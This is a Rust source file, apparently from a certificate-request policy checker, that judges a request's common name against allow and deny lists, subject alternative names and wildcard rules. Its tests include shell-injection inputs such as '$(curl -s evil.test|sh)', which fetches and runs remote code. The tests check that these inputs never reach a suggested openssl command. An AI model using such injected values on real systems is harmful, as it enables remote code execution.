use super::names::{NameLists, NamesRule, Objection};
use super::subject::report_missing;
use crate::diagnostic::{Diagnostic, Path, codes, path::steps, quote};
use crate::name::{DnsName, EmailAddress, GeneralName, IpAddress, Named};
use crate::oid;
use crate::policy::decision::SubjectAttribute;
use crate::policy::document::{CommonNameRule, InNames, Presence};
use crate::policy::evaluate::Judgement;
use crate::policy::matcher::text::TextMatcher;
use crate::policy::matcher::{Faults, InContext, PatternList, Verdict};
use crate::request::CertificationRequest;

/// The common name: one, and unless the policy says otherwise one of the subject alternative names.
#[derive(Debug)]
pub(super) struct CommonName {
    presence: Presence,
    allow: TextMatcher,
    deny: TextMatcher,
    in_names: InNames,
}

/// The lists that a common name is held against, in one context.
struct CommonNameLists<'m> {
    names: NameLists<'m>,
    allow: InContext<'m, TextMatcher>,
    deny: InContext<'m, TextMatcher>,
}

impl CommonName {
    pub(super) fn compile(rule: &CommonNameRule, faults: &mut Faults) -> Self {
        let at = steps!["subject", "commonName"];
        let default = if rule.allow.is_empty() { InNames::Required } else { InNames::Optional };
        let in_names = rule.in_names.unwrap_or(default);
        if in_names == InNames::Optional
            && rule.allow.is_empty()
            && rule.presence != Some(Presence::Forbidden)
        {
            faults.error(
                Diagnostic::new(
                    codes::DOCUMENT_NEVER_MATCHES,
                    "the common name need not be among the names, and nothing else allows it",
                )
                .with_help("give allow, or leave inNames out"),
                &at.join("inNames"),
            );
        }
        Self {
            presence: rule.presence.unwrap_or(Presence::Optional),
            allow: TextMatcher::compile(&rule.allow, &at.join("allow"), faults),
            deny: TextMatcher::compile(&rule.deny, &at.join("deny"), faults),
            in_names,
        }
    }

    /// The common name as a subject alternative name, and its place, if the policy adds it and it is none of them yet.
    pub(super) fn added_name(&self, request: &CertificationRequest) -> Option<(GeneralName, Path)> {
        if self.in_names != InNames::Add {
            return None;
        }
        let mut attributes = request.subject().attributes().iter().enumerate();
        let (index, attribute) = attributes.find(|(_, attribute)| *attribute.oid() == oid::COMMON_NAME)?;
        let name = as_name(attribute.text()?)?;
        let there = request.subject_alt_names().iter().any(|other| same_name(other, &name));
        (!there).then(|| (name, steps!["subject", index, attribute.oid().label()]))
    }

    pub(super) fn judge(&self, names: &NamesRule, values: &[(&str, Path)], judgement: &mut Judgement<'_>) {
        let policy = judgement.policy;
        let at = steps!["subject", "commonName"];
        match (self.presence, values) {
            (Presence::Required, []) => judgement.deny(
                Diagnostic::new(
                    codes::POLICY_COMMON_NAME_MISSING,
                    format!("the subject has no common name, and policy `{policy}` asks for one"),
                )
                .at(steps!["subject"])
                .with_rule(at.join("presence"))
                .with_help("make the request with a common name: `openssl req … -subj /CN=…`"),
            ),
            (Presence::Forbidden, [(text, place), ..]) => judgement.deny(
                Diagnostic::new(
                    codes::POLICY_COMMON_NAME_FORBIDDEN,
                    format!(
                        "the subject has the common name {}, and policy `{policy}` forbids one",
                        quote(text)
                    ),
                )
                .at(place.clone())
                .with_rule(at.join("presence"))
                .with_help("make the request without a common name"),
            ),
            _ => {}
        }
        judgement.pass(|| at.join("presence"));
        for (text, place) in values.iter().skip(1) {
            judgement.deny(
                Diagnostic::new(
                    codes::POLICY_COMMON_NAME_DUPLICATE,
                    format!("the subject has another common name, {}", quote(text)),
                )
                .at(place.clone())
                .with_rule(at.clone())
                .with_help("make the request with one common name"),
            );
        }
        let context = judgement.context;
        let lists = CommonNameLists {
            names: names.in_context(context),
            allow: self.allow.in_context(context),
            deny: self.deny.in_context(context),
        };
        for (text, place) in values {
            self.judge_value(names, &lists, text, place, judgement);
        }
    }

    fn judge_value(
        &self,
        names: &NamesRule,
        lists: &CommonNameLists<'_>,
        text: &str,
        place: &Path,
        judgement: &mut Judgement<'_>,
    ) {
        let policy = judgement.policy;
        let rule = steps!["subject", "commonName"];
        let added = if self.in_names == InNames::Add { as_name(text) } else { None };
        let equal = match self.in_names {
            InNames::Add => added.and_then(|name| equal_text(&name, text)),
            _ => judgement.request.subject_alt_names().iter().find_map(|name| equal_text(name, text)),
        };
        let allowed = lists.allow.find(text);
        // What is issued must be allowed as well as what is asked for.
        let issued_is_allowed =
            equal.as_ref().is_none_or(|issued| lists.allow.find(issued) != Verdict::NoMatch);
        let explicitly_allowed = allowed != Verdict::NoMatch && issued_is_allowed;
        if let Verdict::Match(index) = allowed {
            judgement.pass(|| rule.join("allow").join(index));
        }
        judgement.pass(|| rule.join("deny"));
        judgement.pass(|| rule.join("inNames"));
        let mut report = |code, message: String, rule: Path, help: String| {
            judgement.deny(
                Diagnostic::new(code, message)
                    .at(place.clone())
                    .with_rule(rule)
                    .with_found(text)
                    .with_help(help),
            );
        };
        let shown = format!("the common name {}", quote(text));
        if !self.allow.is_empty() && !explicitly_allowed {
            report(
                codes::POLICY_COMMON_NAME_NOT_ALLOWED,
                format!("{shown} is not allowed by policy `{policy}`"),
                rule.join("allow"),
                format!("use another, or add {} to subject.commonName.allow of the policy", quote(text)),
            );
        }
        // Whoever takes the common name for a name takes it for one of these.
        let readings = readings(text);
        let listed = readings.iter().find_map(|reading| match lists.deny.find(reading) {
            Verdict::Match(index) | Verdict::Overlap(index) => Some(rule.join("deny").join(index)),
            Verdict::NoMatch => None,
        });
        let name = read_name(text).or_else(|| partial_wildcard(text));
        let objection = name.as_ref().and_then(|name| names.objection(name, &lists.names));
        match (listed, objection) {
            (Some(rule), _) | (None, Some(Objection::Denied(rule))) => report(
                codes::POLICY_COMMON_NAME_DENIED,
                format!("{shown} is denied by policy `{policy}`"),
                rule,
                "use another common name, or none".to_owned(),
            ),
            (None, _) if !lists.deny.undecided().is_empty() => {
                report_missing(lists.deny.undecided(), &shown, &rule.join("deny"), &mut report);
            }
            // One of the names has been judged as that.
            (None, Some(Objection::Undecided(rule, missing))) if equal.is_none() => {
                report_missing(&missing, &shown, &rule, &mut report);
            }
            (None, _) => {}
        }
        // One of the names has been judged as that.
        let lacking = match &name {
            _ if equal.is_some() => Vec::new(),
            Some(GeneralName::DnsName(Named { value: Ok(name), .. })) => names.lacking(name),
            _ if text.contains('*') => names.lacking_for_any(is_like_name(text)),
            _ => Vec::new(),
        };
        for (code, key) in lacking {
            report(
                code,
                format!("{shown} is a wildcard, which policy `{policy}` does not allow"),
                steps!["names", "dns", key],
                "use another common name, or none".to_owned(),
            );
        }
        if self.in_names == InNames::Add && equal.is_none() {
            report(
                codes::POLICY_COMMON_NAME_NOT_IN_NAMES,
                format!("{shown} is neither a DNS name nor a mail address"),
                rule.join("inNames"),
                "use a common name that is one of the subject alternative names, or none".to_owned(),
            );
        } else if self.in_names == InNames::Required && equal.is_none() {
            report(
                codes::POLICY_COMMON_NAME_NOT_IN_NAMES,
                format!("{shown} is not one of the subject alternative names"),
                rule.join("inNames"),
                match option_of(text) {
                    Some(option) => format!("add it to the names: `{option}`, or leave the common name out"),
                    None => format!(
                        "leave the common name out, or add {} to subject.commonName.allow of the policy",
                        quote(text)
                    ),
                },
            );
        } else if !explicitly_allowed && IpAddress::parse(text).is_some() {
            report(
                codes::POLICY_COMMON_NAME_IP,
                format!("{shown} is an IP address, which policy `{policy}` does not allow as a common name"),
                rule.join("allow"),
                "leave the common name out, and ask for the address as a subject alternative name".to_owned(),
            );
        }
        let value = equal.unwrap_or_else(|| text.to_owned());
        judgement.subject.push(SubjectAttribute { oid: oid::COMMON_NAME, value });
    }
}

/// How openssl is asked for a common name as one of the names, in the kind that it is and in its canonical form; `None` if it is
/// none, or if its text would mean something else to a shell or to openssl.
fn option_of(text: &str) -> Option<String> {
    let name = IpAddress::parse(text).map(GeneralName::ip).or_else(|| as_name(text))?;
    let kind = match name {
        GeneralName::IpAddress { .. } => "IP",
        GeneralName::Rfc822Name(_) => "email",
        _ => "DNS",
    };
    let canonical = name.display();
    let is_plain = canonical.chars().all(|c| c.is_ascii_alphanumeric() || "-._:@*".contains(c));
    is_plain.then(|| format!("-addext 'subjectAltName={kind}:{canonical},…'"))
}

/// The DNS name, mail address or IP address that a common name is read as. A dot at its end is no difference to DNS.
fn read_name(text: &str) -> Option<GeneralName> {
    let bare = text.strip_suffix('.').unwrap_or(text);
    IpAddress::parse(bare).map(GeneralName::ip).or_else(|| as_name(bare))
}

/// The wildcard that stands for all the names that some programs take a common name for with `*` in its first label, such as
/// `*.example.com` for `w*.example.com` (RFC 6125 6.4.3).
fn partial_wildcard(text: &str) -> Option<GeneralName> {
    let (label, domain) = text.strip_suffix('.').unwrap_or(text).split_once('.')?;
    let wildcard = label.contains('*').then(|| format!("*.{domain}"))?;
    let value = DnsName::parse_unicode(&wildcard).ok()?;
    Some(GeneralName::DnsName(Named { text: value.to_string().into(), value: Ok(value) }))
}

/// Whether a text has only what DNS names have and `*`.
fn is_like_name(text: &str) -> bool {
    text.chars().all(|c| c.is_alphanumeric() || "-_.*".contains(c))
}

/// The texts as which a common name may be understood: as it stands, without a dot at its end, and in the form of the name
/// that it is.
pub(in crate::policy) fn readings(text: &str) -> Vec<String> {
    let mut readings = vec![text.to_owned()];
    let bare = text.strip_suffix('.').unwrap_or(text).to_owned();
    for reading in [Some(bare), read_name(text).map(|name| name.display())].into_iter().flatten() {
        if !readings.contains(&reading) {
            readings.push(reading);
        }
    }
    readings
}

/// A text as the DNS name or mail address that it is.
fn as_name(text: &str) -> Option<GeneralName> {
    if text.contains('@') {
        let value = EmailAddress::parse(text).ok()?;
        return Some(GeneralName::Rfc822Name(Named { text: value.to_string().into(), value: Ok(value) }));
    }
    let value = DnsName::parse_unicode(text).ok()?;
    Some(GeneralName::DnsName(Named { text: value.to_string().into(), value: Ok(value) }))
}

/// Whether two names are the same DNS name or mail address.
fn same_name(a: &GeneralName, b: &GeneralName) -> bool {
    match (a, b) {
        (GeneralName::DnsName(a), GeneralName::DnsName(b)) => a.value.is_ok() && a.value == b.value,
        (GeneralName::Rfc822Name(a), GeneralName::Rfc822Name(b)) => a.value.is_ok() && a.value == b.value,
        _ => false,
    }
}

/// The canonical text of a name that a common name is equal to: DNS names and addresses are compared by value.
fn equal_text(name: &GeneralName, text: &str) -> Option<String> {
    match name {
        GeneralName::DnsName(named) => {
            let name = named.value.as_ref().ok()?;
            (DnsName::parse_unicode(text).ok().as_ref() == Some(name)).then(|| name.to_string())
        }
        GeneralName::IpAddress { address: Some(address), .. } => {
            (IpAddress::parse(text)? == *address).then(|| address.to_string())
        }
        GeneralName::Rfc822Name(named) => {
            let address = named.value.as_ref().ok()?;
            (EmailAddress::parse(text).ok().as_ref() == Some(address)).then(|| address.to_string())
        }
        GeneralName::Uri(named) => (named.value.is_ok() && *named.text == *text).then(|| text.to_owned()),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_command_has_the_requesters_text_in_it_but_a_name_in_its_canonical_form() {
        for (text, option) in [
            ("A.example.com", Some("-addext 'subjectAltName=DNS:a.example.com,…'")),
            ("*.example.com", Some("-addext 'subjectAltName=DNS:*.example.com,…'")),
            ("10.0.0.7", Some("-addext 'subjectAltName=IP:10.0.0.7,…'")),
            ("2001:DB8::7", Some("-addext 'subjectAltName=IP:2001:db8::7,…'")),
            ("jane@Example.com", Some("-addext 'subjectAltName=email:jane@example.com,…'")),
            ("jane'$(id)'@example.com", None),
            ("$(curl -s evil.test|sh)", None),
            ("a.example.com,DNS:b.example.com", None),
            ("w*.example.com", None),
            ("Jane Doe", None),
        ] {
            assert_eq!(option_of(text).as_deref(), option, "{text}");
        }
    }

    #[test]
    fn a_star_in_the_first_label_stands_for_the_wildcard() {
        for (text, wildcard) in [
            ("w*.Example.com.", Some("*.example.com")),
            ("**.example.com", Some("*.example.com")),
            ("*.*", None),
            ("*", None),
            ("www.*", None),
            ("w*.a@example.com", None),
        ] {
            assert_eq!(partial_wildcard(text).map(|name| name.display()).as_deref(), wildcard, "{text}");
        }
    }
}
